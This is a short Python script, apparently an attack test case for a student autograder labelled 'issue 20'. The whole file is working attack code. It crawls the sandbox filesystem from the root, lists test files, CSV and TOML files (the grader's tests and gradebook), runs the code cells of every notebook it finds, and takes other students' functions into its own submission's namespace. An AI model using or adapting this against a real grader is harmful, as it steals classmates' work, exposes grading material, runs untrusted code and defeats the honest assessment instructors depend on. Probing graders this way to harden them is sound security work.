"""Attack (issue 20): whatever folder the grader was started in. Walk every folder the sandbox
shows (outside the system's own) for notebooks, run their code here (a classmate's functions
become this submission's), and write down what tests folder and gradebook it saw."""

import json
import os

SKIP = ("/proc", "/sys", "/dev", "/usr", "/etc", "/lib", "/lib64", "/bin", "/sbin")
stolen = {}
seen = []
for folder, dirs, files in os.walk("/"):
    if folder.startswith(SKIP) or "-packages" in folder or "/python3" in folder:
        dirs[:] = []
        continue
    for name in files:
        path = os.path.join(folder, name)
        if name.endswith((".csv", ".toml")) or name.startswith("test_"):
            seen.append(path)
        if not name.endswith(".ipynb"):
            continue
        try:
            with open(path) as f:
                cells = json.load(f)["cells"]
        except (OSError, ValueError, KeyError):
            continue
        namespace = {}
        for cell in cells:
            if cell.get("cell_type") == "code":
                try:
                    exec("".join(cell["source"]), namespace)
                except BaseException:
                    pass
        stolen.update({k: v for k, v in namespace.items() if callable(v)})
print("SEEN", len(seen), seen[:5])
globals().update(stolen)
